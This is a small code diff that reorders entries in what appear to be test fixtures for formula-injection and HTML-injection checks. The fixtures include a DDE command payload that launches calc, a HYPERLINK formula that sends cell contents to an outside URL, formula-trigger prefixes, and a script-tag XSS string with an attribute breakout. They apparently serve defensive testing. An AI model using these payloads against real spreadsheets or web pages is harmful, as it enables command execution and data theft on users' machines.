@@ -7,15 +7,15 @@ from __future__ import annotations
 
 FORMULA = (
     '=HYPERLINK("http://x/?"&A1,"y")',
-    "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
     "=1+1",
     "-5",
     "\t=1+1",
-    "=",
     "http://example.com/x",
+    "=cmd|' /C calc'!A0",
+    "=",
 )
 HTML = ('<script>alert(1)</script>" onmouseover="x',)
 MARKUP = (
